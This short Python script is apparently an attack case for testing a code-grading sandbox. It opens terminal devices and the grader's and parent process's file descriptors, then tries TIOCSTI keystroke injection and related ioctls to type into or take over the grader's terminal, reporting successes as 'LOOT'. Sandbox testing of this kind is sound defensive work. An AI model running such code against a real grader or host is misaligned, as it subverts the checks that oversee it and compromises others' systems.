# attack: types into the terminal of whoever grades (TIOCSTI), or takes it over
# exercise: ex01_map_dataset
# check: ex01.tabular.len
import fcntl
import glob
import os
import termios

TIOCLINUX = 0x541C
places = ["/dev/tty", "/dev/console", "/dev/ptmx", "/dev/tty0", "/dev/tty1", "/dev/ttyS0", "/dev/vcs", *[f"/dev/pts/{n}" for n in range(40)], *glob.glob("/dev/pts/*")]
fds = [0, 1, 2]
for pid in ("self", "@JUDGE@", "@NURSERY@", str(os.getppid())):
    places += [f"/proc/{pid}/fd/{n}" for n in range(3)]
for place in places:
    for way in (os.O_RDWR, os.O_WRONLY, os.O_RDONLY):
        try:
            fds.append(os.open(place, way | os.O_NOCTTY | os.O_NONBLOCK))
        except OSError as error:
            said = error.strerror
for fd in fds:
    if os.isatty(fd):
        print("LOOT: a terminal", fd)
    for request, argument in ((termios.TIOCSTI, b"x"), (TIOCLINUX, b"\x03"), (termios.TIOCSCTTY, 1), (termios.TIOCCONS, 0), (termios.TIOCSWINSZ, bytes(8)), (termios.TIOCNOTTY, 0)):
        try:
            fcntl.ioctl(fd, request, argument)
            print("LOOT:", request, fd)
        except OSError as error:
            told = error.strerror
print("TRIED", said, told, len(fds))
